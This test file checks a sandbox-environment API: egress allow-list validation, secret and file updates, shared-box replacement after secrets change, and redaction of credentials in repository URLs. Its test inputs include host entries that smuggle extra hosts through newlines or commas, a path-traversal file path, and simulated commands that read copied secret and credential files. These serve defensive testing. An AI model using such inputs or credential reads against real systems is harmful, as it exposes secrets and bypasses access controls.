    for (const egress of ["closed", { allow: [] }, { allow: ["bad host"] }, { allow: ["a.example"], extra: 1 }, { allow: ["127.0.0.1:99999"] }, { allow: ["localhost:0"] },
      // The older form's entries are hosts too: Daytona takes the list comma-joined, so a comma or a newline would smuggle in more.
      { domainAllowList: ["a\nb"] }, { domainAllowList: ["a,b"] }, { blockAll: true, domainAllowList: ["bad host"] }, { domainAllowList: [""] }, { domainAllowList: ["pypi.org", " "] }, { domainAllowList: ["127.0.0.1:99999"] },
      // A wildcard is one leading `*.` label, then a domain: anything else is no pattern Daytona documents.
      ...["*", "*.", "*example.com", "**.example.com", "*.*.example.com", "a.*.example.com", "example.*", "*.example.com:443", "*.-a.example.com", "*.a..example.com", "*.example.com*"]
        .flatMap((h) => [{ allow: [h] }, { domainAllowList: [h] }])]) {
      const r = await createEnv(token, { egress });
      expect(r.status, JSON.stringify(egress)).toBe(400);
      if (JSON.stringify(egress).includes("*")) expect(JSON.stringify(r.body), JSON.stringify(egress)).toContain("wildcard domain");
    }
    // A value of none of the forms is told which forms there are, not zod's "Invalid input".
    const forms = 'egress must be "open" (the default), "deny", or {"allow": ["host", ...]} (the older {"blockAll"?: boolean, "domainAllowList"?: ["host", ...]} is read too)';
    for (const [egress, got] of [["allow", '"allow"'], [["example.com"], "an array"], [{ blockAll: "yes" }, '{"blockAll":"yes"}'], [5, "5"]] as const) {
      const r = await createEnv(token, { egress });
      expect([r.status, r.body.error.code, r.body.error.details], JSON.stringify(egress)).toEqual([400, "validation_failed", [{ path: "egress", message: `${forms}; got ${got}` }]]);
    }
    // The bad entry is named at its place, not as an egress that is none of the forms.
    expect((await createEnv(token, { egress: { allow: ["api.example.com", "*.*.example.com"] } })).body).toMatchObject({
      error: { details: [{ path: "egress.allow.1", message: expect.stringContaining("a wildcard domain (one leading *. label, then a domain") }] },
    });
    for (const egress of ["open", "deny", { allow: ["api.anthropic.com", "127.0.0.1:8080"] }, { blockAll: true }, { blockAll: false, domainAllowList: ["pypi.org", "127.0.0.1:8080"] }, { domainAllowList: [] },
      // Daytona's domainAllowList takes wildcard domains.
      { allow: ["*.example.com", "api.example.com"] }, { domainAllowList: ["*.daytona.io"] }, { blockAll: true, domainAllowList: ["*.pypi.org", "pypi.org"] }]) {
      const r = await createEnv(token, { egress });
      expect(r.status, JSON.stringify(egress)).toBe(201);
      expect(r.body.egress).toEqual(egress);
    }
    const { egressSettings } = await import("../../src/workspace/box-config");
    expect(egressSettings("open", "https://x.supabase.co/functions/v1/stream-proxy")).toBeUndefined();
    expect(egressSettings("deny", "https://x.supabase.co/functions/v1/stream-proxy")).toEqual({ blockAll: true, domainAllowList: ["x.supabase.co"] });
    expect(egressSettings({ allow: ["api.example"] }, "http://127.0.0.1:8787/api/stream")).toEqual({ blockAll: true, domainAllowList: ["api.example", "127.0.0.1:8787"] });
    // The older provider-shaped form: a blocking one still lets the box reach its stream.
    expect(egressSettings({ blockAll: true }, "http://127.0.0.1:8787/api/stream")).toEqual({ blockAll: true, domainAllowList: ["127.0.0.1:8787"] });
    expect(egressSettings({ blockAll: true, domainAllowList: ["pypi.org"] }, "https://x.supabase.co/f")).toEqual({ blockAll: true, domainAllowList: ["pypi.org", "x.supabase.co"] });
    expect(egressSettings({ blockAll: false }, "https://x.supabase.co/f")).toEqual({ blockAll: false });
    // A list closes the box whatever blockAll says (Daytona's reading, and the local host's): the stream goes on it.
    expect(egressSettings({ blockAll: false, domainAllowList: ["pypi.org"] }, "https://x.supabase.co/f")).toEqual({ blockAll: true, domainAllowList: ["pypi.org", "x.supabase.co"] });
    expect(egressSettings({ allow: ["*.example.com"] }, "https://x.supabase.co/f")).toEqual({ blockAll: true, domainAllowList: ["*.example.com", "x.supabase.co"] });
  });

  it("PATCH updates what it names: secrets merge (null removes), files are replaced; the same checks as create", async () => {
    const token = await houseToken("house-ws-patch");
    const created = await createEnv(token, { secrets: { A_KEY: "aaaa-secret", B_KEY: "bbbb-secret" }, env: { X: "1" }, files: [{ path: "k.txt", content: "key", sensitive: true }] });
    const id = created.body.id as string;
    const r = await call(`/api/environments/${id}`, { method: "PATCH", token, json: { secrets: { A_KEY: null, C_KEY: "cccc-secret" }, env: { Y: "2" }, boxMode: "shared" } });
    expect(r.status).toBe(200);
    const body = (await r.json()) as any;
    expect(body.secretNames).toEqual(["B_KEY", "C_KEY"]);
    expect(body.env).toEqual({ Y: "2" });
    expect([body.boxMode, body.sharedBox]).toEqual(["shared", true]);
    expect(body.files).toEqual([{ path: "k.txt", sensitive: true }]);
    expect(body.name).toBe("ws");
    expect(JSON.stringify(body)).not.toMatch(/secret"|cccc|key"/);

    // The list as GET shows it, with a file added, is a list PATCH takes: the sensitive file keeps its content.
    const added = await call(`/api/environments/${id}`, { method: "PATCH", token, json: { files: [...body.files, { path: "more.txt", content: "m" }] } });
    expect(added.status).toBe(200);
    expect(((await added.json()) as any).files).toEqual([{ path: "k.txt", sensitive: true }, { path: "more.txt", content: "m", sensitive: false }]);
    // Without content, only a sensitive file already stored at that path is kept; anything else is still a 400.
    for (const files of [[{ path: "other.txt", sensitive: true }], [{ path: "k.txt" }], [{ path: "k.txt", sensitive: false }]]) {
      expect((await call(`/api/environments/${id}`, { method: "PATCH", token, json: { files } })).status, JSON.stringify(files)).toBe(400);
    }
    // A sensitive file with nothing stored to keep says so, not that its content is "expected string".
    const nothingKept = await call(`/api/environments/${id}`, { method: "PATCH", token, json: { files: [{ path: "k.txt", sensitive: true }, { path: "other.txt", sensitive: true }] } });
    expect(((await nothingKept.json()) as any).error.details).toEqual([{ path: "files.1.content", message: "no sensitive file is stored at other.txt to keep: send its content" }]);
    await call(`/api/environments/${id}`, { method: "PATCH", token, json: { boxMode: "ephemeral", sharedBox: false } });
    const { runId } = await delegateAndLaunch(token, id, { task: "read the key" });
    const provider = sharedTestProvider();
    const [box] = await provider.list({ [LABEL_RUN]: runId });
    const boxFiles = provider.boxes.get(box.ref)!.files;
    expect([boxFiles.get("work/k.txt"), boxFiles.get("work/more.txt")].map((b) => new TextDecoder().decode(b))).toEqual(["key", "m"]);

    const replaced = (await (await call(`/api/environments/${id}`, { method: "PATCH", token, json: { files: [{ path: "new.txt", content: "n" }] } })).json()) as any;
    expect(replaced.files).toEqual([{ path: "new.txt", content: "n", sensitive: false }]);

    for (const json of [{ files: [{ path: "../x", content: "" }] }, { id: "env_other" }, { unknownField: 1 }, { secrets: "nope" }, { env: { "BAD NAME": "x" } }]) {
      const bad = await call(`/api/environments/${id}`, { method: "PATCH", token, json });
      expect(bad.status, JSON.stringify(json)).toBe(400);
      expect(await errorCode(bad)).toBe("validation_failed");
    }
    // Its validation errors have the shape every route's have: details is a list of {path, message}.
    const shaped = (await (await call(`/api/environments/${id}`, { method: "PATCH", token, json: { env: { "BAD NAME": "x" } } })).json()) as any;
    expect(shaped.error.details).toEqual([{ path: expect.stringContaining("env"), message: expect.any(String) }]);
    expect((await call(`/api/environments/${id}`, { method: "PATCH", token: await houseToken("house-ws-other"), json: { name: "mine" } })).status).toBe(404);
    expect((await call(`/api/environments/${id}`, { method: "PATCH", token: await houseToken("house-ws-patch", "rita", "reader"), json: { name: "x" } })).status).toBe(403);
    expect((await call(`/api/environments/${id}`, { method: "PATCH", token: await houseToken("house-ws-patch", "b", "bot"), json: { name: "x" } })).status).toBe(403);
    expect((await call(`/api/environments/env_missing`, { method: "PATCH", token, json: {} })).status).toBe(404);
    expect((await call(`/api/environments/${id}`, { method: "PATCH", token, headers: { "content-type": "application/json" }, body: "{not json" })).status).toBe(400);
  });
});

describe("deleting an environment while a run uses its shared box", () => {
  it("is refused (409) and deletes nothing", async () => {
    const token = await houseToken("house-env-del-busy");
    const e = await createEnv(token, { boxMode: "shared" });
    const { launched, childThreadId } = await delegateAndLaunch(token, e.body.id, { task: "work" });
    const boxId = launched.payload.boxId as string;
    const del = await call(`/api/environments/${e.body.id}`, { method: "DELETE", token });
    expect(del.status).toBe(409);
    expect(await errorCode(del)).toBe("conflict");
    expect((await call(`/api/environments/${e.body.id}`, { token })).status).toBe(200);
    expect(((await (await call(`/api/sandboxes/${boxId}`, { token })).json()) as { state: string }).state).toBe("live");
    expect(((await (await call(`/api/threads/${childThreadId}`, { token })).json()) as { status: string }).status).toBe("running");
  });
});

describe("a shared box after its environment's secrets change", () => {
  it("holds what runs wrote from the old values (an MCP config, what a run left): it is replaced at its next use, so no command shows an old value; a secret added keeps it", async () => {
    const houseId = "house-ws-secret-change";
    const token = await houseToken(houseId);
    const provider = sharedTestProvider();
    const text = (b: Uint8Array | undefined) => (b ? new TextDecoder().decode(b) : "");
    // `cat` shows a file of the box as the launch (or a run) left it.
    provider.execHandler = (box, command) => {
      const path = /^cat (\S+)$/.exec(command)?.[1];
      return { exitCode: 0, output: path ? text(provider.boxes.get(box.ref)?.files.get(path)) : "" };
    };
    try {
      const e = await createEnv(token, {
        harness: "claude-code", boxMode: "shared",
        secrets: { DOCS_KEY: "docs-key-before", NPM_TOKEN: "npm-token-before" },
        plugins: { mcpServers: { docs: { command: "docs-mcp", env: { API_KEY: "$DOCS_KEY" } } } },
      });
      const id = e.body.id as string;
      const { launched, childThreadId } = await delegateAndLaunch(token, id, { task: "notes", harness: "claude-code", model: "claude-x" });
      const old = launched.payload.boxId as string;
      const boxesWithMcp = () => [...provider.boxes.values()].filter((b) => b.labels["threadbox.house"] === houseId && b.files.has("work/.mcp.json"));
      const [oldBox] = boxesWithMcp();
      expect(text(oldBox.files.get("work/.mcp.json"))).toContain("docs-key-before");
      // What the run left there from its environment (`env > env.txt`, say).
      oldBox.files.set("work/env.txt", new TextEncoder().encode("NPM_TOKEN=npm-token-before\n"));
      const exec = async (command: string) => (await (await call(`/api/environments/${id}/exec`, { method: "POST", token, json: { command } })).json()) as { boxId: string; output: string };
      expect(await exec("cat work/env.txt")).toEqual({ boxId: old, exitCode: 0, output: "NPM_TOKEN=[redacted]\n" });

      // A secret added: nothing in the box holds it, and the box stays.
      expect((await call(`/api/environments/${id}`, { method: "PATCH", token, json: { secrets: { NEW_KEY: "new-key-value" } } })).status).toBe(200);
      expect((await exec("cat work/.mcp.json")).boxId).toBe(old);

      // One changed and one removed: commands go to a new box, and never show what the old one holds.
      expect((await call(`/api/environments/${id}`, { method: "PATCH", token, json: { secrets: { DOCS_KEY: "docs-key-after", NPM_TOKEN: null } } })).status).toBe(200);
      for (const path of ["work/.mcp.json", "work/env.txt"]) {
        const r = await exec(`cat ${path}`);
        expect(r.output, path).not.toContain("-before");
        expect(r.boxId, path).not.toBe(old);
      }
      const current = ((await (await call(`/api/environments/${id}`, { token })).json()) as { sharedBoxId: string }).sharedBoxId;
      expect(current).not.toBe(old);

      // The run on the old box keeps it (its harness has the old values); from its end on the box is reaped as an ephemeral one is.
      const box = async (boxId: string) => (await (await call(`/api/sandboxes/${boxId}`, { token })).json()) as { state: string; ephemeral: boolean; threads: string[] };
      expect(await box(old)).toMatchObject({ state: "live", ephemeral: true, threads: [childThreadId] });
      expect((await call(`/api/threads/${childThreadId}/stop`, { method: "POST", token })).status).toBe(200);
      await vi.waitFor(async () => expect((await box(old)).threads).toEqual([]), { timeout: 10_000, interval: 100 });

      // The next run writes the new value on the new box.
      const next = await delegateAndLaunch(token, id, { task: "more notes", harness: "claude-code", model: "claude-x" });
      expect(next.launched.payload.boxId).toBe(current);
      const [newBox] = boxesWithMcp().filter((b) => b !== oldBox);
      expect(JSON.parse(text(newBox.files.get("work/.mcp.json"))).mcpServers.docs.env).toEqual({ API_KEY: "docs-key-after" });
    } finally {
      provider.execHandler = () => ({ exitCode: 0, output: "" });
    }
  });
});

describe("a shared box after its environment's sensitive files change", () => {
  it("holds the old content (the file, what a run copied of it): it is let go, so no command shows it; a plain file changed or a sensitive one moved keeps the box", async () => {
    const houseId = "house-ws-sensitive-change";
    const token = await houseToken(houseId);
    const provider = sharedTestProvider();
    provider.execHandler = (box, command) => {
      const file = provider.boxes.get(box.ref)?.files.get(/^cat (\S+)$/.exec(command)?.[1] ?? "");
      return { exitCode: 0, output: file ? new TextDecoder().decode(file) : "" };
    };
    try {
      const creds = { path: "creds.txt", content: "token=sensitive-before\n", sensitive: true };
      const e = await createEnv(token, { boxMode: "shared", files: [creds, { path: "notes.txt", content: "plain\n" }] });
      const id = e.body.id as string;
      const { launched } = await delegateAndLaunch(token, id, { task: "look" });
      const old = launched.payload.boxId as string;
      const { providerRef } = (await (await call(`/api/sandboxes/${old}`, { token })).json()) as { providerRef: string };
      // What a run copied of it (`cp creds.txt backup.txt`, say).
      provider.boxes.get(providerRef)!.files.set("work/backup.txt", new TextEncoder().encode(creds.content));
      const exec = async (command: string) => (await (await call(`/api/environments/${id}/exec`, { method: "POST", token, json: { command } })).json()) as { boxId: string; output: string };
      expect(await exec("cat work/backup.txt")).toMatchObject({ boxId: old, output: "[redacted]" });
      for (const files of [[creds, { path: "notes.txt", content: "plainer\n" }], [{ ...creds, path: "moved.txt" }]]) {
        expect((await call(`/api/environments/${id}`, { method: "PATCH", token, json: { files } })).status).toBe(200);
        expect((await exec("true")).boxId, JSON.stringify(files)).toBe(old);
      }
      expect((await call(`/api/environments/${id}`, { method: "PATCH", token, json: { files: [{ ...creds, content: "token=sensitive-after\n" }] } })).status).toBe(200);
      const r = await exec("cat work/backup.txt");
      expect(r.output).not.toContain("sensitive-before");
      expect(r.boxId).not.toBe(old);
    } finally {
      provider.execHandler = () => ({ exitCode: 0, output: "" });
    }
  });
});

describe("a stored repository URL as shown", () => {
  it.each([
    ["https://u:p@ss@host/a.git?x=1&tok#frag", "https://[redacted]:[redacted]@host/a.git?x=[redacted]&[redacted]#[redacted]", ["u", "p@ss", "1", "tok", "frag"]],
    ["ssh://git@host/a.git", "ssh://git@host/a.git", []],
    ["https://host/a.git", "https://host/a.git", []],
    ["https://h/a?private_token=glpat%2Fabc", "https://h/a?private_token=[redacted]", ["glpat%2Fabc", "glpat/abc"]],
  ])("%s -> %s", (url, shown, secrets) => {
    expect(shownRepositoryUrl(url)).toBe(shown);
    expect(repositoryUrlSecrets(url)).toEqual(secrets);
  });

  it("sent back, stands for the stored URL it shows: the same place's first, else the only one shown so", () => {
    const a1 = "https://t1@h/a.git", a2 = "https://t2@h/a.git", lib = "ssh://git:pw@h/lib.git";
    const shownA = "https://[redacted]@h/a.git";
    expect(keptRepositoryUrls([shownA, shownA], [a1, a2])).toEqual({ kept: new Map([[0, a1], [1, a2]]), check: ["https://h/a.git", "https://h/a.git"] });
    // Two stored URLs shown alike, neither at this place: which one it stands for is unknown, so it is taken as sent (and refused).
    expect(keptRepositoryUrls(["x", "y", shownA], [a1, a2]).kept.size).toBe(0);
    expect(keptRepositoryUrls(["ssh://git:[redacted]@h/lib.git", undefined], ["https://h/b.git", lib])).toEqual({ kept: new Map([[0, lib]]), check: ["ssh://git@h/lib.git", undefined] });
    // A URL stored without credentials is shown as it is: nothing to keep.
    expect(keptRepositoryUrls(["https://h/b.git"], ["https://h/b.git"]).kept.size).toBe(0);
  });
});
